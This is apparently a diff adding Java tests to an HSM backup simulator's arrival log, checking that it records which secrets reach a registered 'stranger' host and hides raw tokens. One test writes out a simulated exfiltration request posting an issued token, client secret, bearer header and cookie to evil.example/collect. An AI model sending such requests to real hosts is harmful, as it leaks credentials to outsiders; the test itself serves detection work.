@@ -1,9 +1,11 @@
 package dev.hsmbackup.simulator;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import java.io.IOException;
+import java.net.http.HttpResponse;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
@@ -63,6 +65,47 @@ class ArrivalLogTest {
         assertThat(login.path("clientId").asText()).isEqualTo(TestFleet.CLIENT);
         assertThat(login.path("scope").asText()).isEqualTo("https://managedhsm.azure.net/.default");
         assertThat(login.path("result").asText()).isEqualTo("token");
+    }
+
+    @Test
+    void shouldTellWhichSecretsAStrangerWasGiven() throws IOException {
+        rig.control("PUT", "/strangers/evil.example", "");
+        String token = rig.hsmToken();
+
+        HttpResponse<String> polite = rig.send(
+                "POST",
+                "https://evil.example/collect?t=" + token,
+                "client_secret=s&client_assertion=a",
+                "Authorization",
+                "Bearer x",
+                "Cookie",
+                "c=d");
+        rig.send("GET", "https://evil.example/nothing", "");
+
+        assertThat(polite.statusCode()).isEqualTo(200);
+        assertThat(carried(rig.arrivals().get(rig.arrivals().size() - 2)))
+                .containsExactly("assertion", "authorization", "cookie", "jwt", "secret");
+        assertThat(carried(rig.arrivals().getLast())).isEmpty();
+        assertThat(rig.arrivals().toString()).doesNotContain(token);
+    }
+
+    @Test
+    void shouldHaveNoStrangerThatNobodyNamed() {
+        assertThatThrownBy(() -> rig.send("GET", "https://evil.example/", "")).isInstanceOf(IOException.class);
+    }
+
+    @Test
+    void shouldNameTheTokensThatItIssued() throws IOException {
+        String one = rig.hsmToken();
+        String two = rig.hsmToken();
+
+        JsonNode issued = rig.control("GET", "/tokens", "").path("issued");
+
+        assertThat(issued.valueStream().map(JsonNode::asText)).containsExactly(one, two);
+    }
+
+    private static List<String> carried(JsonNode arrival) {
+        return arrival.path("carried").valueStream().map(JsonNode::asText).toList();
     }
 
     @Test
